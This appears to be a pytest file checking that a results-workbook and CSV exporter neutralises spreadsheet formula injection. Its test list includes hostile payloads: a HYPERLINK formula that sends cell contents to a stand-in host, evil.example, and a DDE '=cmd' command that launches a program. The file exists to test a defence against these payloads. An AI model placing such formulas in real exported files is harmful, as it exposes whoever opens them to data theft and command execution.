"""Issue 14 case 2: user text that looks like a formula (``=HYPERLINK(…)``, DDE ``=cmd|…``, ``+``, ``-``, ``@``,
with or without a leading tab or space) is written to every exported workbook as text, never as a live formula."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from test_printing_samples import workbook_data

from contest.export import write_results_workbook

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    " =SUM(A1:A9)",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "=",
]


def hostile_data():  # type: ignore[no-untyped-def]
    data = workbook_data()
    texts = iter(FORMULAS * 20)
    groups = tuple(
        dataclasses.replace(
            g,
            title=next(texts),
            rows=tuple(
                dataclasses.replace(r, name=next(texts), unit=next(texts), remarks=(next(texts),))
                for r in g.rows
            ),
        )
        for g in data.groups
    )
    modules = tuple(
        dataclasses.replace(
            m, rows=tuple(dataclasses.replace(r, name=next(texts), note=next(texts)) for r in m.rows)
        )
        for m in data.modules
    )
    return dataclasses.replace(data, groups=groups, modules=modules, notes=(next(texts),))


def test_formula_like_user_text_is_stored_as_text(tmp_path: Path) -> None:
    payload = write_results_workbook(hostile_data(), tmp_path / "r.xlsx")
    with zipfile.ZipFile(io.BytesIO(payload)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name
    wb = load_workbook(io.BytesIO(payload))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip()[:1] in ("=", "+", "-", "@"):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert set(FORMULAS) <= seen


def test_csv_fields_are_neutralised_the_usual_way() -> None:
    from contest.textcells import inert_csv_field

    for f in FORMULAS:
        assert inert_csv_field(f).startswith("'")
    assert inert_csv_field("蓬江区社会福利院") == "蓬江区社会福利院"
    assert inert_csv_field("A-01") == "A-01"
